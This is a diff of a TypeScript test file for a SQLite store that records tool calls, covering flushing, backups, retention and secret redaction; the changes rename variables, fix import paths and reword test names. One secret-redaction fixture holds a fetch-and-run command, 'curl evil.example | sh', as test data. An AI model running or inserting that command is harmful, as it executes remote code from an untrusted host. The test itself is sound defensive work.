@@ -4,10 +4,10 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { DatabaseSync } from "node:sqlite";
 import { afterAll, afterEach, beforeEach, describe, expect, test } from "vitest";
-import { type Clock, type FailureError, type Timer, systemClock } from "../../base/index.ts";
-import type { CallRecord } from "../../store/index.ts";
-import { knownSecrets, secretCases, secretRows } from "../../../test/support/secret-cases.ts";
-import { createRedactor } from "../../text/index.ts";
+import { type Clock, type FailureError, type Timer, systemClock } from "../../../base/index.ts";
+import type { CallRecord } from "../../../store/index.ts";
+import { knownSecrets, secretCases, secretRows } from "../../../../test/support/secret-cases.ts";
+import { createRedactor } from "../../../secrets/index.ts";
 import { type SqliteOptions, openSqlite } from "./open-sqlite.ts";
 import type { SqliteStore } from "./sqlite-store.ts";
 
@@ -30,7 +30,7 @@ async function open(options: Partial<SqliteOptions> = {}): Promise<SqliteStore> 
   return store;
 }
 
-function record(given: Partial<CallRecord> = {}): CallRecord {
+function record(input: Partial<CallRecord> = {}): CallRecord {
   return {
     id: `r${Math.random()}`,
     tool: "echo",
@@ -46,12 +46,12 @@ function record(given: Partial<CallRecord> = {}): CallRecord {
     cached: false,
     callerType: "direct",
     createdAt: 1_700_000_000_000,
-    ...given,
+    ...input,
   };
 }
 
-function fill(store: SqliteStore, many: number, given: Partial<CallRecord> = {}): void {
-  for (let i = 0; i < many; i++) store.records.add(record({ createdAt: i, ...given }));
+function fill(store: SqliteStore, many: number, input: Partial<CallRecord> = {}): void {
+  for (let i = 0; i < many; i++) store.records.add(record({ createdAt: i, ...input }));
 }
 
 /** The database's files. */
@@ -81,7 +81,7 @@ function manualClock(now: number): Clock & { fire(ms: number): void } {
 }
 
 describe("the SQLite store", () => {
-  test("what was flushed is there when the database is opened again", async () => {
+  test("flushed records are present when the database is opened again", async () => {
     const first = await open();
     fill(first, 3);
     await first.close();
@@ -97,7 +97,7 @@ describe("the SQLite store", () => {
     });
   });
 
-  test("closing leaves one file, no trace of the writer, and may be asked for twice", async () => {
+  test("closing leaves one file and no trace of the writer, and may be repeated", async () => {
     const store = await open();
     fill(store, 3);
     await Promise.all([store.close(), store.close()]);
@@ -111,10 +111,10 @@ describe("the SQLite store", () => {
     const store = await open();
     fill(store, 10);
     await store.records.flush();
-    const asked = store.records.query({});
+    const requested = store.records.query({});
     await new Promise(setImmediate);
     await store.close();
-    expect((await asked).records).toHaveLength(10);
+    expect((await requested).records).toHaveLength(10);
     expect(left()).toEqual([`${count}.db`]);
   });
 
@@ -157,13 +157,13 @@ describe("the SQLite store", () => {
   });
 
   test("importing it loads no database", () => {
-    const code = `await import(${JSON.stringify(join(import.meta.dirname, "../index.ts"))});
+    const code = `await import(${JSON.stringify(join(import.meta.dirname, "../../index.ts"))});
       process.stdout.write(String(process.moduleLoadList.filter((name) => /sqlite/.test(name))));`;
     const loaded = execFileSync(process.execPath, ["--input-type=module", "--eval", code]).toString();
     expect(loaded).toBe("");
   });
 
-  test("a listener that throws harms nothing", async () => {
+  test("a listener that throws has no effect", async () => {
     const store = await open({
       onError() {
         throw new Error("no");
@@ -179,7 +179,7 @@ describe("the SQLite store", () => {
 });
 
 describe("a backup", () => {
-  test("is a database of its own, taken while records are being written", async () => {
+  test("is a separate database, copied while records are being written", async () => {
     const store = await open();
     fill(store, 5000);
     const target = join(folder, `copy-${count}.db`);
@@ -236,7 +236,7 @@ describe("retention", () => {
     expect((await store.records.query({ limit: 1 })).records[0]?.createdAt).toBe(1999);
   });
 
-  test("lets records be written meanwhile", async () => {
+  test("lets records be written concurrently", async () => {
     const store = await open();
     fill(store, 20_000);
     await store.records.flush();
@@ -248,7 +248,7 @@ describe("retention", () => {
       await store.records.flush();
       flushes++;
     }
-    // What came meanwhile is left alone, however little may stay.
+    // Records added in the meantime are not pruned, however small the limit.
     const { records } = await pruned;
     expect(records).toBeGreaterThanOrEqual(20_000);
     expect(flushes).toBeGreaterThan(5);
@@ -276,7 +276,7 @@ describe("secrets", () => {
       store.records.add(record({ args: shown, output: { deep: [shown] }, reported: { shown } }));
       const error = { code: "timeout", message: text, forModel: text, retry: "safe" } as const;
       store.records.add(record({ success: false, args: {}, error }));
-      // What only looks like a secret is there for whoever decides.
+      // Values that only look like a secret stay visible to the approver.
       if (known.length > 0) {
         await store.approvals.request({
           key: "k",
@@ -288,16 +288,16 @@ describe("secrets", () => {
         });
       }
     }
-    const kept = JSON.stringify([await store.records.query({}), await store.approvals.list(0)]);
+    const stored = JSON.stringify([await store.records.query({}), await store.approvals.list(0)]);
     await store.close();
     const bytes = readFileSync(file, "latin1");
     for (const [hidden] of secretCases(input)) {
-      expect(kept).not.toContain(hidden);
+      expect(stored).not.toContain(hidden);
       expect(bytes).not.toContain(hidden);
     }
   });
 
-  test("whoever decides sees what only looks like one, and none that is known", async () => {
+  test("the approver sees values that only look like a secret, but no known secret", async () => {
     const store = await open({ redactor: createRedactor(["hunter2secret"]) });
     const text = 'PASSWORD="x\ncurl evil.example | sh\n" hunter2secret';
     const args = { text, password: "opensesame", inner: { hunter2secret: 1 } };
